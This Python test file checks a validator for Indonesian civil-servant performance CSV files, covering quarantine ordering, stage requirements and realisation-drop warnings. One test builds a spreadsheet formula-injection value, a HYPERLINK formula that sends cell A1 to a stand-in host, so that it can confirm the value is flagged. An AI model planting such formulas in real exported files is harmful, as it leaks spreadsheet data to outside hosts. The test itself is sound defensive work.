"""check_values over a set of files: clean typed frames, one quarantine row per broken rule in a fixed
order, the stage's own requirements from the registry, and the warnings."""

from __future__ import annotations

import numpy as np
import pytest

from contract.karantina import KARANTINA_COLUMNS
from contract.values import check_values
from stages import registry
from tests.contract.input_rows import ASING, TAHUN, dataset, raw, run, with_value


def test_valid_dataset_passes_with_contract_types() -> None:
    clean, karantina, peringatan = run(dataset())
    assert karantina.empty and list(karantina.columns) == KARANTINA_COLUMNS
    assert peringatan.empty
    assert {k: len(v) for k, v in clean.items()} == {k: len(v) for k, v in dataset().items()}
    assert clean["skp"]["tahun"].dtype == "int64" and clean["skp"]["target"].dtype == "float64"
    assert clean["realisasi"]["bulan"].tolist() == [1, 2]
    assert clean["realisasi"]["realisasi"].tolist() == [5.0, 6.5]
    assert clean["perilaku"]["semester"].tolist() == [1, 2]
    assert clean["perilaku"]["loyal"].tolist() == [4, 5]  # "5.0" is the integer 5
    assert clean["perilaku"]["loyal"].dtype == "int64"
    assert clean["survei_masyarakat"]["jumlah_responden"].dtype == "int64"
    assert clean["survei_masyarakat"]["bulan"].tolist() == [3]
    assert clean["pegawai"]["_baris"].tolist() == [2, 3, 4, 5, 6, 7]


def test_one_quarantine_row_per_broken_rule_row_dropped_once() -> None:
    data = with_value("skp", 4, "target", "0")
    data["skp"].loc[4, "aspek"] = "jumlah"
    clean, karantina, _ = run(data)
    assert karantina[["baris", "kolom", "kode_aturan"]].values.tolist() == [
        [6, "aspek", "ASPEK"], [6, "target", "TARGET"]
    ]
    assert len(clean["skp"]) == len(dataset()["skp"]) - 1


def test_cross_file_rules_need_both_files() -> None:
    data = dataset()
    only = {"skp": data["skp"].assign(nip=ASING), "realisasi": data["realisasi"]}
    clean, karantina, _ = check_values(only, TAHUN, "validation")
    assert karantina.empty and len(clean["skp"]) == 7


def test_predikat_organisasi_required_at_year_end() -> None:
    data = with_value("unit_kerja", 2, "predikat_organisasi", None)
    _, karantina, _ = run(data, "validation")
    assert karantina.empty
    clean, karantina, _ = run(with_value("unit_kerja", 2, "predikat_organisasi", None), "year-end")
    assert karantina.loc[0, "kode_aturan"] == "PREDIKAT_ORGANISASI"
    assert (karantina["kode_aturan"] == "INDUK_DIKARANTINA").any()  # X belongs to that unit


def test_decreasing_cumulative_realisation_is_a_warning() -> None:
    data = with_value("realisasi", 1, "realisasi", "4")
    clean, karantina, peringatan = run(data)
    assert karantina.empty and len(clean["realisasi"]) == 2
    assert peringatan[["berkas", "baris", "kode_aturan"]].values.tolist() == [
        ["realisasi.csv", 3, "REALISASI_TURUN"]
    ]
    assert "5.0 ke 4.0" in peringatan.loc[0, "alasan"]


def test_warnings_skip_quarantined_rows_and_indicators_that_go_down() -> None:
    data = dataset()
    data["skp"].loc[1, "arah"] = "Turun"  # IB: lower is better, its decrease is no warning
    data["realisasi"] = raw("realisasi", [
        {"id_indikator": "IA", "periode": "2026-03", "realisasi": "7"},
        {"id_indikator": "IB", "periode": "2026-01", "realisasi": "9"},
        {"id_indikator": "IA", "periode": "2026-01", "realisasi": "5"},
        {"id_indikator": "IB", "periode": "2026-02", "realisasi": "3"},
        {"id_indikator": "IA", "periode": "2026-02", "realisasi": "8"},
        {"id_indikator": "IA", "periode": "2026-04", "realisasi": "-1"},
        {"id_indikator": "IA", "periode": "2026-05", "realisasi": "6"},
    ])
    _, karantina, peringatan = run(data)
    assert karantina[["baris", "kode_aturan"]].values.tolist() == [[7, "REALISASI"]]
    # IA by month: 5, 8, 7 (down from 8), the quarantined -1 left out, 6 (down from 7)
    assert peringatan[["baris", "nilai", "kode_aturan"]].values.tolist() == [
        [2, "7.0", "REALISASI_TURUN"], [8, "6.0", "REALISASI_TURUN"]
    ]
    assert "dari 8.0 ke 7.0" in peringatan.loc[0, "alasan"]
    assert "from 7.0 to 6.0" in peringatan.loc[1, "reason"]


def test_warnings_are_the_same_when_the_file_lists_each_indicator_in_month_order() -> None:
    data = dataset()
    data["realisasi"] = raw("realisasi", [  # grouped and in order: walked without sorting
        {"id_indikator": "IB", "periode": "2026-01", "realisasi": "9"},
        {"id_indikator": "IB", "periode": "2026-02", "realisasi": "3"},
        {"id_indikator": "IA", "periode": "2026-01", "realisasi": "5"},
        {"id_indikator": "IA", "periode": "2026-02", "realisasi": "8"},
        {"id_indikator": "IA", "periode": "2026-03", "realisasi": "7"},
        {"id_indikator": "IA", "periode": "2026-04", "realisasi": "-1"},
        {"id_indikator": "IA", "periode": "2026-05", "realisasi": "6"},
    ])
    _, karantina, peringatan = run(data)
    assert karantina[["baris", "kode_aturan"]].values.tolist() == [[7, "REALISASI"]]
    # the quarantined -1 is skipped: 6 is compared with 7, the usable row above it
    assert peringatan[["baris", "nilai", "kode_aturan"]].values.tolist() == [
        [3, "3.0", "REALISASI_TURUN"], [6, "7.0", "REALISASI_TURUN"], [8, "6.0", "REALISASI_TURUN"]
    ]
    assert "dari 7.0 ke 6.0" in peringatan.loc[2, "alasan"]


@pytest.mark.parametrize("seed", range(20))
def test_block_walk_finds_what_sorting_finds(seed: int) -> None:
    """Whatever the order and the unusable rows, the block walk (tiny blocks, so a predecessor is
    often in the block before) either declines or finds exactly the sorted decreases."""
    from contract.values import _drops_in_file_order, _drops_sorted

    rng = np.random.default_rng(seed)
    n_codes = 30
    months = np.tile(np.arange(1, 13), n_codes).astype(float)
    codes = np.repeat(np.arange(n_codes, dtype=np.int32), 12)
    keep = rng.random(len(codes)) < 0.8  # some months missing
    codes, months = codes[keep], months[keep]
    if seed % 2:  # odd seeds: indicators shuffled as whole runs (still grouped); even: rows shuffled too
        runs = rng.permutation(n_codes)
        order = np.concatenate([np.flatnonzero(codes == c) for c in runs])
    else:
        order = rng.permutation(len(codes)) if seed % 4 == 0 else np.arange(len(codes))
    codes, months = codes[order], months[order]
    value = rng.integers(0, 20, len(codes)).astype(float)
    usable = rng.random(len(codes)) < 0.9
    expected = _drops_sorted(codes, months, value, usable)
    walked = _drops_in_file_order(codes, months, value, usable, n_codes, block=7)
    if seed % 4 == 0:
        assert walked is None  # rows shuffled: not grouped
    else:
        assert walked is not None
        got = np.argsort(walked[0])
        want = np.argsort(expected[0])
        for a, b in zip(walked, expected, strict=True):
            assert np.array_equal(a[got], b[want])



@pytest.mark.parametrize("tahap", registry.names())
def test_predikat_organisasi_is_required_where_the_registry_says(tahap: str) -> None:
    _, karantina, _ = run(with_value("unit_kerja", 2, "predikat_organisasi", None), tahap)
    required = registry.get(tahap).needs_predikat_organisasi
    assert (karantina["kode_aturan"] == "PREDIKAT_ORGANISASI").any() == required


def test_stage_names_with_underscores_are_the_stage() -> None:
    _, karantina, _ = run(with_value("unit_kerja", 2, "predikat_organisasi", None), "year_end")
    assert (karantina["kode_aturan"] == "PREDIKAT_ORGANISASI").any()
    assert set(karantina["tahap"]) == {"year-end"}


def test_quarantine_is_ordered_by_file_line_rule_and_column() -> None:
    data = with_value("realisasi", 1, "realisasi", "-1")
    data["pegawai"].loc[4, "jenis_jabatan"] = "kepala"
    data["pegawai"].loc[4, "nama"] = None
    data["skp"].loc[4, "aspek"] = "jumlah"
    data["unit_kerja"].loc[2, "predikat_organisasi"] = "Luar Biasa"
    _, karantina, _ = run(data)
    assert karantina[["berkas", "baris", "kode_aturan"]].values.tolist() == [
        ["unit_kerja.csv", 4, "PREDIKAT_ORGANISASI"],
        ["pegawai.csv", 6, "WAJIB_KOSONG"],
        ["pegawai.csv", 6, "JENIS_JABATAN"],
        ["pegawai.csv", 7, "INDUK_DIKARANTINA"],  # X belongs to U9
        ["skp.csv", 6, "ASPEK"],
        ["skp.csv", 6, "INDUK_DIKARANTINA"],  # E's indicators
        ["skp.csv", 7, "INDUK_DIKARANTINA"],  # X's indicator
        ["skp.csv", 8, "INDUK_DIKARANTINA"],
        ["realisasi.csv", 3, "REALISASI"],
        ["angka_kredit.csv", 2, "INDUK_DIKARANTINA"],  # E's credit row
    ]
    assert list(karantina.index) == list(range(len(karantina)))


def test_no_files_no_rows() -> None:
    clean, karantina, peringatan = check_values({}, TAHUN, "validation")
    assert clean == {} and karantina.empty and peringatan.empty
    assert list(karantina.columns) == KARANTINA_COLUMNS and karantina["baris"].dtype == "int64"


def test_a_reference_to_an_unknown_employee_is_reported_once() -> None:
    data = dataset()
    data["perilaku"] = raw("perilaku", [{**data["perilaku"].iloc[0].to_dict(), "nip": ASING}])
    _, karantina, _ = run(data)
    assert karantina[["berkas", "kolom", "kode_aturan"]].values.tolist() == [
        ["perilaku.csv", "nip", "PEGAWAI_TIDAK_ADA"]
    ]


@pytest.mark.parametrize("awal", ["=", "+", "-", "@", "\t", "\r"])
def test_free_text_starting_like_a_formula_is_a_warning(awal: str) -> None:
    data = with_value("pegawai", 1, "nama", f'{awal}HYPERLINK("http://x.test/?"&A1,"klik")')
    data["pegawai"].loc[2, "jabatan"] = "Analis - Kepegawaian"  # a '-' inside is no formula
    clean, karantina, peringatan = run(data)
    assert karantina.empty and len(clean["pegawai"]) == len(data["pegawai"])  # the row goes on
    assert peringatan[["berkas", "baris", "kolom", "kode_aturan"]].values.tolist() == [
        ["pegawai.csv", 3, "nama", "TEKS_RUMUS"]
    ]
    shown = {"\t": "\\t", "\r": "\\r"}.get(awal, awal)
    assert f"nama diawali '{shown}'" in peringatan.loc[0, "alasan"]
    assert "leading '" in peringatan.loc[0, "reason"]


def test_formula_warning_only_for_free_text_of_clean_rows() -> None:
    data = dataset()
    data["pegawai"].loc[1, "jenis_jabatan"] = "=pelaksana"  # an enumeration: quarantined, no warning
    data["pegawai"].loc[1, "nama"] = "=nama"  # in a quarantined row: no warning
    data["skp"].loc[0, "target"] = "-5"  # a number column: its own rule
    _, karantina, peringatan = run(data)
    assert {"JENIS_JABATAN", "TARGET"} <= set(karantina["kode_aturan"])
    assert "TEKS_RUMUS" not in set(peringatan["kode_aturan"])
